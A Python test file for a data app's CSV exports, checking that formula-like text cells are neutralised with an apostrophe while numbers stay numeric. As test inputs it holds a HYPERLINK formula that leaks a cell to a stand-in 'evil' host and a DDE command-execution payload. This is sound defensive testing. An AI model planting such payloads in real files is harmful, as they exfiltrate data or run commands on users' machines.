"""Issue 14, item 8 in the app: the Datasets page's unused-rows CSV, its upload preview CSV and the Predict page's
predictions CSV neutralise formulas in text cells and keep numbers as numbers."""

from __future__ import annotations

import io

import pandas as pd

from tests.pages.test_predict_page import trained_artifacts, trained_study  # noqa: F401  (module fixtures)

EVIL = '=HYPERLINK("http://evil/?"&A1)'


def _csv(downloads, button) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(downloads(button)), encoding="utf-8-sig")


def test_datasets_page_csvs_are_spreadsheet_safe(app_test, app_env, downloads):
    table = f'id,formula,target\n@id1,"{EVIL.replace(chr(34), chr(34) * 2)}",-1.5\nok,NaCl,-2.5\n+x,KCl,abc\n'
    at = app_test()
    at.run()
    at.file_uploader[0].set_value(("t.csv", table.encode(), "text/csv"))
    at.run()
    preview = _csv(downloads, next(b for b in at.get("download_button") if "reasons" in b.label))
    assert list(preview["formula"]) == ["'" + EVIL, "KCl"] and list(preview["id"]) == ["'@id1", "'+x"]
    next(b for b in at.button if b.key and b.key.startswith("import_")).click().run()
    assert not at.exception, at.exception
    unused = _csv(downloads, next(b for b in at.get("download_button") if "unused rows" in b.label))
    assert list(unused["formula"]) == ["'" + EVIL, "KCl"]
    assert [str(v) for v in unused["target (as given)"]] == ["-1.5", "abc"]  # a negative number stays a number


def test_predict_page_csv_is_spreadsheet_safe(trained_study, app_test, downloads):  # noqa: F811
    at = app_test(timeout=120)
    at.switch_page("pages/predict.py")
    at.run()
    table = b"name,formula\n=cmd|' /C calc'!A0,NaCl\n-neg,KBr\n"
    at.tabs[1].get("file_uploader")[0].upload("new.csv", table, "text/csv").run()
    at.tabs[1].selectbox[0].set_value("formula")
    at.tabs[1].selectbox[1].set_value("name").run()
    next(b for b in at.button if b.label == "Predict the table").click().run()
    assert not at.exception, at.exception
    result = _csv(downloads, at.download_button[0])
    assert list(result["id"]) == ["'=cmd|' /C calc'!A0", "'-neg"]
    assert pd.api.types.is_float_dtype(result["prediction"]) and pd.api.types.is_float_dtype(result["w_c"])
